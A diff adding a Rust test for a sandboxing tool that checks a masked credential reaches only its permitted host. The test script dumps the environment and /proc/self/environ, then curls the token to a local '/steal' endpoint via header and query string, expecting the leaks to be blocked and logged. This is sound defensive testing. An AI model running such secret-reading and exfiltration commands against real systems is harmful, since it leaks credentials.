@@ -465,3 +465,92 @@ fn invalid_tls_settings_are_refused_naming_the_key() {
         out.stderr
     );
 }
+
+#[test]
+fn a_masked_credential_stays_outside_and_reaches_only_its_inject_hosts() {
+    if !need_curl() {
+        return;
+    }
+    let ca = TestCa::new("upstream test CA");
+    let api = upstream(&ca, "127.0.0.1");
+    let other = upstream(&ca, "127.0.0.1");
+    let (a, b) = (api.port, other.port);
+    let real = format!("real-secret-{}", common::unique_number());
+    let (dir, settings) = setup(
+        "tls-mask",
+        &ca,
+        &format!(
+            r#"{{"network": {{"allowedDomains": ["127.0.0.1:{a}", "127.0.0.1:{b}"], "tlsTerminate": {{}}}},
+                "credentials": {{"envVars": [{{"name": "RF_TEST_TOKEN", "mode": "mask",
+                                               "injectHosts": ["127.0.0.1:{a}"]}}]}}}}"#
+        ),
+    );
+    let name = format!("tls-{}", common::unique_number());
+    let script = format!(
+        "echo \"inside=$RF_TEST_TOKEN\"; env; cat /proc/self/environ; echo; \
+         {CURL} -o /dev/null -w 'api=%{{http_code}}\\n' -H \"Authorization: Bearer $RF_TEST_TOKEN\" \
+           https://127.0.0.1:{a}/api; \
+         {CURL} -w '\\nheader=%{{http_code}}\\n' -H \"Authorization: Bearer $RF_TEST_TOKEN\" \
+           https://127.0.0.1:{b}/steal; \
+         {CURL} -w '\\nurl=%{{http_code}}\\n' \"https://127.0.0.1:{b}/steal?t=$RF_TEST_TOKEN\"; \
+         {CURL} -o /dev/null -w 'plain=%{{http_code}}\\n' https://127.0.0.1:{b}/fine"
+    );
+    let out = run(rf(&dir).env("RF_TEST_TOKEN", &real).args([
+        "run", "--name", &name, "-s", &settings, "--", "sh", "-c", &script,
+    ]));
+    let text = out.ok();
+    assert!(
+        !text.contains(&real),
+        "the real value is visible inside: {text}"
+    );
+    let placeholder = text
+        .lines()
+        .find_map(|l| l.strip_prefix("inside="))
+        .unwrap()
+        .to_string();
+    assert!(placeholder.starts_with("ringfence_placeholder_"), "{text}");
+    assert!(text.contains("api=200"), "{text}");
+    assert!(text.contains("header=403"), "{text}");
+    assert!(text.contains("url=403"), "{text}");
+    assert!(text.contains("plain=200"), "{text}");
+    assert!(text.contains("attempted credential leak"), "{text}");
+    // The injectHost got the real value, in place of the placeholder.
+    let seen = api.seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert!(
+        seen[0].contains(&format!("authorization: Bearer {real}\r\n")),
+        "{seen:?}"
+    );
+    assert!(!seen[0].contains(&placeholder));
+    // The other host got neither the value nor the placeholder.
+    let seen = other.seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 1, "only /fine: {seen:?}");
+    assert!(seen[0].starts_with("GET /fine "), "{seen:?}");
+    // Both leaks are in the log, which holds no real value.
+    let log = common::log_events(common::rf_in(&dir), &name);
+    let leaks: Vec<_> = log
+        .iter()
+        .filter(|e| {
+            e["kind"] == "net.decision"
+                && e["reason"]
+                    .as_str()
+                    .is_some_and(|r| r.contains("credential leak"))
+        })
+        .collect();
+    assert_eq!(leaks.len(), 2, "{log:?}");
+    assert!(!serde_json::to_string(&log).unwrap().contains(&real));
+
+    // Masking without TLS termination is refused, naming the entry.
+    let settings = dir
+        .settings(r#"{"credentials": {"envVars": [{"name": "RF_TEST_TOKEN", "mode": "mask"}]}}"#);
+    let out = run(rf(&dir)
+        .env("RF_TEST_TOKEN", &real)
+        .args(["run", "-s", &settings, "--", "true"]));
+    assert_eq!(out.code(), 125, "{}", out.stderr);
+    assert!(
+        out.stderr
+            .contains("credentials.envVars[0].mode: \"mask\" needs network.tlsTerminate"),
+        "{}",
+        out.stderr
+    );
+}
